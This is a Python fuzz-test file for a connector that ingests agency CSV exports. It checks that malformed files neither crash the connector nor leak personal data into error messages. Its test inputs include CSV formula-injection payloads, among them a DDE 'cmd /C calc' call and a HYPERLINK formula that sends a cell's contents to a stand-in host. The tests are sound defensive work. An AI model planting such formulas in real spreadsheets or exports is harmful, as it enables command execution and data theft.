"""Hostile exports, generated: whatever a file holds, the connector does not crash.

For every export format: random bytes, broken encodings, NUL bytes, control characters,
shifted and cut rows, quotes left open, formulas in every text column, a 10 MB field and a
line of 100,000 columns. Properties:

* nothing but :class:`~hub.errors.InputError` (the file as a whole is unreadable) escapes
  the connector, and then nothing is published;
* each bad row is a rejected row with the line it starts on, the rest of the file goes on;
* a dead letter names agency, file, row and problems, never a value of the row: no name,
  no birth date, no free text (it goes to the hub's operators, not to the agency).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from connectors.delivery.csvfile import render_csv
from connectors.export_file import open_export
from connectors.ingest import FORMAT_NAMES, Conversion
from connectors.publish import publish
from connectors.rows import parse_date
from hub.agencies import load_agencies
from hub.contract.codec import get_codec
from hub.errors import InputError
from tests.connectors.recording import RecordingProducer
from tests.exports import (
    CONSENT_COLUMNS,
    HEALTH_COLUMNS,
    JOBCENTER_COLUMNS,
    SCHOOL_COLUMNS,
    YOUTH_OFFICE_COLUMNS,
    consent_row,
    health_row,
    jobcenter_row,
    school_row,
    youth_office_row,
)

AGENCIES = load_agencies()
FREE_TEXT = "Bemerkung"  # a column no format reads: agencies' notes, free text
PERSONAL = ("Vorname", "Nachname", "Geburtsdatum", FREE_TEXT, "Klasse")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTROLS = [chr(c) for c in (*range(0x01, 0x09), *range(0x0E, 0x1C), 0x7F)]

SOME = settings(max_examples=50, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@dataclass(frozen=True)
class Format:
    file_name: str
    columns: tuple[str, ...]
    row: Callable[..., dict[str, str]]
    record: str  # the column of the record id (unique per row here)
    date: str  # a date column every row of the format reads
    words: tuple[str, ...]  # vocabulary columns every row of the format reads

    @property
    def all_columns(self) -> tuple[str, ...]:
        return (*self.columns, FREE_TEXT)


FORMATS = {
    "youth_office": Format("jugendamt-kamen_export.csv", YOUTH_OFFICE_COLUMNS,
                           youth_office_row, "Vorgangsnummer", "Datum",
                           ("Ereignis", "Wohnort", "Zweck")),
    "school": Format("grundschule-kamen-mitte_export.csv", SCHOOL_COLUMNS, school_row,
                     "Schüler-ID", "Datum", ("Ereignis", "Wohnort", "Zweck")),
    "health": Format("gesundheitsamt-kreis-unna_export.csv", HEALTH_COLUMNS, health_row,
                     "Untersuchungs-Nr", "Datum", ("Art", "Gemeinde", "Zweck", "Ergebnis")),
    "jobcenter": Format("jobcenter-kreis-unna_export.csv", JOBCENTER_COLUMNS, jobcenter_row,
                        "BG-Nummer", "Datum", ("Ereignis", "Wohnort", "Zweck")),
    "consent": Format("einwilligungen_jugendamt-kamen.csv", CONSENT_COLUMNS, consent_row,
                      "Einwilligungs-ID", "Erfasst_am", ("Wohnort", "Zweck", "Status")),
}


def test_every_export_format_is_covered():
    assert set(FORMATS) == set(FORMAT_NAMES)


# --------------------------------------------------------------------------- helpers
class Lab:
    """A folder for export files and ``hub ingest`` without the broker: the file is
    converted and published to a recording producer."""

    def __init__(self, folder: Path, key):
        self.folder = folder
        self.key = key

    def write(self, fmt: Format, content: bytes) -> Path:
        path = self.folder / fmt.file_name
        path.write_bytes(content)
        return path

    def ingest(self, path: Path, **kwargs) -> tuple[Conversion, RecordingProducer, list[str]]:
        conversion = Conversion(path, AGENCIES, self.key, **kwargs)
        producer = RecordingProducer()
        reports: list[str] = []
        publish(conversion, producer, report=reports.append)
        return conversion, producer, reports


@pytest.fixture(scope="module")
def lab(tmp_path_factory, pseudonym_key) -> Lab:
    return Lab(tmp_path_factory.mktemp("hostile"), pseudonym_key)


def rejected_lines(reports: list[str]) -> list[int]:
    """The row numbers of the "rejected: FILE, row N: ..." report lines."""
    return [int(r.split(", row ", 1)[1].split(":", 1)[0]) for r in reports]


def strings_in(value) -> list[str]:
    """Every string in a decoded dead letter (keys and values)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (k, *strings_in(v))]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


def assert_no_personal_data(dead_letters: list[dict], secrets: list[str]) -> None:
    texts = [s for letter in dead_letters for s in strings_in(letter)]
    for secret in secrets:
        leaked = [t for t in texts if secret in t]
        assert not leaked, f"{secret!r} is in a dead letter: {leaked}"


def assert_dead_letters_name_their_rows(conversion, producer, rejected_lines) -> None:
    letters = producer.dead_letters()
    assert sorted(letter["row"] for letter in letters) == sorted(rejected_lines)
    for letter in letters:
        assert letter["stage"] == "connector" and letter["file"] == conversion.path.name
        assert letter["reasons"] and all(isinstance(r, str) and r for r in letter["reasons"])
    assert all(len(s.value) < 4096 for s in producer.sent if s.is_dead_letter)


def csv_lines(rows: list[list[str]]) -> list[str]:
    """Each row as CSV text (``;``, quoted where needed), ending with a line break."""
    texts = []
    for row in rows:
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\r\n").writerow(row)  # quotes \r too
        texts.append(out.getvalue())
    return texts


def render(columns, rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    return "".join(csv_lines([list(columns), *rows])).encode(encoding)


def start_lines(rows: list[list[str]]) -> list[int]:
    """The line each row starts on (header: line 1; a quoted line break is a new line)."""
    starts, line = [], 2
    for text in csv_lines(rows):
        starts.append(line)
        line += len(re.findall(r"\r\n|\r|\n", text))
    return starts


# ------------------------------------------------------------------------ strategies
names = st.text(alphabet="abcdefghijklmnopqrstuvwxyzäöüß", min_size=3, max_size=12)
given_names = names.map(lambda s: "Qz" + s)  # markers: no word of a problem text has them
family_names = names.map(lambda s: "Vx" + s)
birth_dates = st.dates(date(2008, 1, 1), date(2020, 12, 31)).map(
    lambda d: d.strftime("%d.%m.%Y"))
formulas = st.one_of(
    st.sampled_from(['=HYPERLINK("http://example.invalid/?leak="&A1;"x")',
                     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
                     "=1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "@", "=",
                     "+49 2303 27-0", "-UE-1"]),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=30)).map("".join),
)
free_text = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")),
    min_size=1, max_size=40).map(lambda s: "Notiz " + s)
hostile_text = st.one_of(formulas, st.text(max_size=60), st.sampled_from(
    ["", " ", '"', ";", '";"', "\x00", "'", "Tom;Beispiel", "\ufeff", "\u202e", "ÄÖÜß€"]))


@st.composite
def good_rows(draw, fmt: Format, index: int) -> dict[str, str]:
    row = fmt.row()
    row[fmt.record] = f"R-{index}"
    row["Vorname"] = draw(given_names)
    row["Nachname"] = draw(family_names)
    row["Geburtsdatum"] = draw(birth_dates)
    row[FREE_TEXT] = draw(free_text)
    return row


def not_a_date(value: str) -> bool:
    return parse_date(value.strip()) is None


@st.composite
def broken_rows(draw, fmt: Format, index: int) -> list[str]:
    """A row that must be rejected, on one line, not disturbing the rows around it."""
    row = draw(good_rows(fmt, index))
    cells = [row.get(c, "") for c in fmt.all_columns]
    how = draw(st.sampled_from(["nul", "control", "word", "date", "short", "long"]))
    if how == "nul":
        i = draw(st.integers(0, len(cells) - 1))
        at = draw(st.integers(0, len(cells[i])))
        cells[i] = cells[i][:at] + "\x00" + cells[i][at:]
    elif how == "control":
        column = draw(st.sampled_from(
            [fmt.record, "Vorname", "Nachname", fmt.date, *fmt.words[:3]]))
        i = fmt.all_columns.index(column)
        cells[i] = cells[i][:1] + draw(st.sampled_from(CONTROLS)) + cells[i][1:]
    elif how == "word":
        column = draw(st.sampled_from(fmt.words[:3]))
        word = draw(st.one_of(formulas, st.text(min_size=1, max_size=30)))
        cells[fmt.all_columns.index(column)] = word + " Unbekannt"  # never a known word
    elif how == "date":
        value = draw(st.one_of(formulas, hostile_text, st.sampled_from(
            ["31.02.2026", "2026-09-16", "16.9.26", "=TODAY()", "-1", "16.09.2026x"])))
        assume(not_a_date(value))
        cells[fmt.all_columns.index(fmt.date)] = value
    elif how == "short":
        cells = cells[:draw(st.integers(1, len(cells) - 1))]
    else:
        extra = draw(st.lists(st.text(min_size=1, max_size=20).filter(str.strip),
                              min_size=1, max_size=5))
        cells = cells + extra
    return cells


@st.composite
def exports(draw, fmt: Format):
    """(rows as cells, the indexes of the broken ones, the personal values in the file)."""
    broken = draw(st.lists(st.booleans(), min_size=1, max_size=12))
    rows, secrets = [], []
    for index, bad in enumerate(broken):
        if bad:
            cells = draw(broken_rows(fmt, index))
        else:
            good = draw(good_rows(fmt, index))
            cells = [good.get(c, "") for c in fmt.all_columns]
        rows.append(cells)
        secrets += [cells[fmt.all_columns.index(c)].strip("\x00")
                    for c in PERSONAL if c in fmt.all_columns[:len(cells)]]
    return rows, [i for i, bad in enumerate(broken) if bad], [s for s in secrets if s]


# -------------------------------------------------------- no crash, whatever the bytes
@pytest.mark.parametrize("name", FORMATS)
@SOME
@given(body=st.binary(max_size=3000), header=st.booleans())
@example(body=b"", header=True)
@example(body=bytes(range(256)), header=False)
@example(body=bytes(range(256)), header=True)
@example(body=b"\xff\xfe" + "Vorgangsnummer;Ereignis".encode("utf-16-le"), header=False)
@example(body=b"\x00" * 64, header=True)
@example(body=b'"' * 7 + b";\r\n\r" * 5, header=True)
def test_random_bytes_never_crash(lab, name, body, header):
    fmt = FORMATS[name]
    content = (";".join(fmt.all_columns).encode() + b"\n" if header else b"") + body
    path = lab.write(fmt, content)
    try:
        conversion, producer, reports = lab.ingest(path)
    except InputError:
        return  # the file as a whole is unreadable: nothing was published
    rejected = rejected_lines(reports)
    assert all(line >= 2 for line in rejected)
    assert len(rejected) == conversion.summary.rejected
    assert_dead_letters_name_their_rows(conversion, producer, rejected)


@pytest.mark.parametrize("name", FORMATS)
@SOME
@given(body=st.text(alphabet=st.sampled_from(
    ['"', ";", "\n", "\r", "\x00", "=", "+", "-", "@", "\t", "'", "a", "Ä", "1", ".", " ",
     "\u2028", "\x85", "€"]), max_size=400), encoding=st.sampled_from(["utf-8", "utf-8-sig"]))
def test_any_text_after_the_header_never_crashes(lab, name, body, encoding):
    fmt = FORMATS[name]
    path = lab.write(fmt, (";".join(fmt.all_columns) + "\n" + body).encode(encoding))
    conversion, producer, reports = lab.ingest(path)
    physical_lines = len(path.read_bytes().splitlines()) + 1
    rejected = rejected_lines(reports)
    assert all(2 <= line <= physical_lines for line in rejected), rejected
    assert len(rejected) == conversion.summary.rejected
    assert_dead_letters_name_their_rows(conversion, producer, rejected)


# ----------------------------------------------------- bad rows: rejected, on their line
@pytest.mark.parametrize("name", FORMATS)
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_each_bad_row_is_a_row_error_with_its_line_and_a_clean_dead_letter(lab, name,
                                                                            data):
    fmt = FORMATS[name]
    rows, broken, secrets = data.draw(exports(fmt))
    encoding = data.draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    try:
        content = render(fmt.all_columns, rows, encoding)
    except UnicodeEncodeError:
        content = render(fmt.all_columns, rows, "utf-8")
    path = lab.write(fmt, content)

    conversion, producer, reports = lab.ingest(path)

    starts = start_lines(rows)
    lines = {starts[index] for index in broken}
    assert set(rejected_lines(reports)) == lines, reports
    assert len(producer.events()) == len(rows) - len(broken)
    assert conversion.summary.rejected == len(broken)
    assert_dead_letters_name_their_rows(conversion, producer, sorted(lines))
    assert_no_personal_data(producer.dead_letters(), secrets)


@pytest.mark.parametrize("name", FORMATS)
@SOME
@given(data=st.data())
def test_a_quote_left_open_rejects_its_row_and_never_shows_what_it_swallowed(lab, name,
                                                                             data):
    """An opening quote at the start of any field of any row, never closed: the field runs
    to the end of the file, over the names and birth dates of the rows after it."""
    fmt = FORMATS[name]
    count = data.draw(st.integers(1, 6))
    rows = [data.draw(good_rows(fmt, i)) for i in range(count)]
    cells = [[r.get(c, "").replace('"', "").replace(";", ",") for c in fmt.all_columns]
             for r in rows]
    k = data.draw(st.integers(0, count - 1))
    j = data.draw(st.integers(0, len(fmt.all_columns) - 1))
    cells[k][j] = '"' + cells[k][j]
    ends_with_newline = data.draw(st.booleans())
    text = "\n".join(";".join(r) for r in [list(fmt.all_columns), *cells])
    path = lab.write(fmt, (text + ("\n" if ends_with_newline else "")).encode())

    conversion, producer, reports = lab.ingest(path)

    assert rejected_lines(reports) == [k + 2]
    assert "the file ends inside a quoted field" in reports[0]
    assert len(producer.events()) == k  # the rows before it; the rest is inside the quote
    secrets = [r[c] for r in rows[k:] for c in PERSONAL if c in r]
    for secret in secrets:
        assert secret not in reports[0]  # not even in the agency's own report
    assert_no_personal_data(producer.dead_letters(), secrets)
    assert_dead_letters_name_their_rows(conversion, producer, [k + 2])


# ------------------------------------------------------------------ explicit hostile cases
def youth(lab, body: bytes, **kwargs):
    fmt = FORMATS["youth_office"]
    return lab.ingest(lab.write(fmt, ";".join(fmt.all_columns).encode() + b"\n" + body),
                      **kwargs)


def line(**values) -> bytes:
    row = youth_office_row(**values)
    return (";".join(row.get(c, "") for c in FORMATS["youth_office"].all_columns)
            + "\n").encode()


def test_windows_1252_is_detected(lab):
    conversion, producer, reports = youth(lab, line(Nachname="Krüger").decode().encode(
        "cp1252"))
    assert conversion.export.encoding == "cp1252"
    assert len(producer.events()) == 1 and not reports


def test_invalid_utf8_in_a_utf8_file(lab):
    """One stray Windows-1252 byte: the file is read as Windows-1252 as a whole, so the
    UTF-8 umlauts of the other rows become unknown words; every row is a row error."""
    conversion, producer, reports = youth(lab, line() + b"JA-2;\xdcbergabe;\n" + line())
    assert conversion.export.encoding == "cp1252"
    assert rejected_lines(reports) == [2, 3, 4] and not producer.events()
    assert "Ereignis 'Ãœbergabe angefragt' is not a known event" in reports[0]


def test_bytes_that_are_no_text_in_any_known_encoding(lab):
    with pytest.raises(InputError, match="neither UTF-8 nor Windows-1252"):
        youth(lab, line() + b"\x81\x8d\x8f\x90\x9d\xc3\x28")


def test_a_wrong_explicit_encoding_is_a_clear_error(lab):
    with pytest.raises(InputError, match="not readable as utf-8"):
        youth(lab, line(Nachname="Krüger").replace("ü".encode(), b"\xfc"),
              encoding="utf-8")


def test_a_utf16_export_is_recognised_as_such(lab):
    fmt = FORMATS["youth_office"]
    text = ";".join(fmt.all_columns) + "\n" + line().decode()
    path = lab.write(fmt, text.encode("utf-16"))
    with pytest.raises(InputError, match="UTF-16"):
        lab.ingest(path)
    conversion, producer, _ = lab.ingest(path, encoding="utf-16")
    assert len(producer.events()) == 1


def test_nul_bytes_make_their_row_an_error(lab):
    body = (line() + line(Vorgangsnummer="JA-2", Vorname="T\x00m")
            + line(Vorgangsnummer="JA-3", Bemerkung="\x00\x00") + line(Vorgangsnummer="JA-4"))
    conversion, producer, reports = youth(lab, body)
    assert rejected_lines(reports) == [3, 4]
    assert all("NUL" in r for r in reports)
    assert len(producer.events()) == 2
    assert_no_personal_data(producer.dead_letters(), ["T\x00m"])


def test_nul_bytes_in_the_header_fail_the_file(lab):
    fmt = FORMATS["youth_office"]
    path = lab.write(fmt, ";".join(fmt.all_columns).replace("Datum", "Da\x00tum").encode()
                 + b"\n" + line())
    with pytest.raises(InputError, match="NUL"):
        lab.ingest(path)


@pytest.mark.parametrize("column", ["Vorname", "Ereignis", "Bemerkung"])
@pytest.mark.parametrize("quoted", [False, True])
def test_a_10_mb_field(lab, column, quoted):
    huge = "Qz" + "x" * 10_000_000
    value = f'"{huge}"' if quoted else huge
    body = line() + line(Vorgangsnummer="JA-2", **{column: value}) + line(Vorgangsnummer="JA-3")
    conversion, producer, reports = youth(lab, body)
    assert rejected_lines(reports) == [3]
    assert "longer than" in reports[0] and len(reports[0]) < 500
    assert len(producer.events()) == 2
    assert all(len(s.value) < 1000 for s in producer.sent)
    assert_no_personal_data(producer.dead_letters(), ["Qzxxxx"])


def test_a_10_mb_header_field_fails_the_file_clearly(lab):
    fmt = FORMATS["youth_office"]
    path = lab.write(fmt, ";".join(fmt.all_columns).encode() + b';"' + b"x" * 10_000_000
                 + b'"\n' + line())
    with pytest.raises(InputError, match="header line is not readable as CSV"):
        lab.ingest(path)


def test_a_line_of_100000_columns(lab):
    wide = line(Vorgangsnummer="JA-2").rstrip(b"\n") + b";x" * 100_000 + b"\n"
    trailing = line(Vorgangsnummer="JA-3").rstrip(b"\n") + b";" * 100_000 + b"\n"
    conversion, producer, reports = youth(lab, line() + wide + trailing)
    assert rejected_lines(reports) == [3]
    assert "row has 100012 fields, the header only 12" in reports[0]
    assert len(producer.events()) == 2  # empty trailing fields are no problem


def test_a_header_of_100000_columns(lab):
    fmt = FORMATS["youth_office"]
    columns = [*fmt.all_columns, *(f"Extra{i}" for i in range(100_000))]
    full = line().rstrip(b"\n") + b";x" * 100_000 + b"\n"
    path = lab.write(fmt, (";".join(columns) + "\n").encode() + full + line())
    conversion, producer, reports = lab.ingest(path)
    assert len(producer.events()) == 1  # the same event twice: the second is a duplicate
    assert rejected_lines(reports) == [3] and "row has only 12 of 100012 fields" in reports[0]


def test_a_file_that_ends_mid_quote(lab):
    body = line() + line(Vorgangsnummer="JA-2").replace(b"Kamen", b'"Kamen')
    body += line(Vorgangsnummer="JA-3", Vorname="Qzmia", Nachname="Vxmuster",
                 Geburtsdatum="14.02.2019")
    conversion, producer, reports = youth(lab, body)
    assert rejected_lines(reports) == [3]
    assert "the file ends inside a quoted field" in reports[0]
    for secret in ("Qzmia", "Vxmuster", "14.02.2019"):
        assert secret not in reports[0]
    assert_no_personal_data(producer.dead_letters(), ["Qzmia", "Vxmuster", "14.02.2019"])
    assert len(producer.events()) == 1


def test_a_row_over_several_lines_reports_the_line_it_starts_on(lab):
    body = (line() + line(Vorgangsnummer="JA-2", Bemerkung='"eins\nzwei\r\ndrei"')
            + line(Vorgangsnummer="JA-3", Datum="31.02.2026"))
    conversion, producer, reports = youth(lab, body)
    assert rejected_lines(reports) == [6]
    assert len(producer.events()) == 2


def test_shifted_columns_show_no_values(lab):
    """A row without its Datum: the names move into Datum and Vorname."""
    row = youth_office_row(Vorname="Qzlea", Nachname="Vxkunz", Geburtsdatum="01.01.2019")
    cells = [row[c] for c in YOUTH_OFFICE_COLUMNS if c != "Datum"]
    conversion, producer, reports = youth(lab, (";".join(cells) + "\n").encode())
    assert "row has only 10 of 12 fields" in reports[0]
    for secret in ("Qzlea", "Vxkunz", "01.01.2019"):
        assert secret not in reports[0]
    assert_no_personal_data(producer.dead_letters(), ["Qzlea", "Vxkunz", "01.01.2019"])


def test_the_agency_report_still_names_short_plain_values(lab):
    conversion, producer, reports = youth(lab, line(Datum="31.02.2026", Zweck="Irgendwas"))
    assert "Datum '31.02.2026' is not a date" in reports[0]
    assert "Zweck 'Irgendwas' is not a known purpose" in reports[0]
    (letter,) = producer.dead_letters()
    assert letter["reasons"] == ["Datum is not a date (TT.MM.JJJJ)",
                                 "Zweck is not a known purpose"]


DATES = ("Datum", "Geburtsdatum", "Gueltig_ab", "Gueltig_bis", "Erfasst_am")


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("dates_too", [False, True], ids=["text-columns", "all-columns"])
def test_formulas_in_every_text_column(lab, name, dates_too):
    """Every text column of every row starts with a formula character (the dates too, or
    not): nothing crashes, each row is published or rejected, no dead letter repeats a
    value, and what is published is delivered without a cell that runs as a formula."""
    fmt = FORMATS[name]
    rows = []
    for i, prefix in enumerate(FORMULA_STARTS):
        row = fmt.row()
        row[fmt.record] = f"R-{i}"
        rows.append([prefix + row.get(c, "x") if dates_too or c not in DATES else row[c]
                     for c in fmt.all_columns])
    path = lab.write(fmt, render(fmt.all_columns, rows))
    conversion, producer, reports = lab.ingest(path)
    assert conversion.summary.rows == len(rows)
    assert len(reports) == conversion.summary.rejected == len(producer.dead_letters())
    assert len(producer.events()) == conversion.summary.published
    secrets = [c.strip() for r in rows for c in r if len(c.strip()) > 3]
    assert_no_personal_data(producer.dead_letters(), secrets)
    delivered = render_csv([get_codec().decode(s.value) for s in producer.events()])
    for row in csv.reader(io.StringIO(delivered.decode(), newline=""), delimiter=";"):
        assert not any(cell.lstrip().startswith(FORMULA_STARTS) for cell in row), row


def test_a_broken_row_is_read_by_open_export_too(lab):
    """The reader keeps going after a row the CSV module cannot take apart."""
    fmt = FORMATS["youth_office"]
    path = lab.write(fmt, ";".join(fmt.all_columns).encode() + b"\n" + line()
                 + b"x" * 200_000 + b"\n" + line(Vorgangsnummer="JA-3"))
    rows = list(open_export(path, fmt.columns).rows())
    assert [r.line for r in rows] == [2, 3, 4]
    assert [bool(r.problems) for r in rows] == [False, True, False]
    assert not rows[1].readable and rows[1].fields == {}
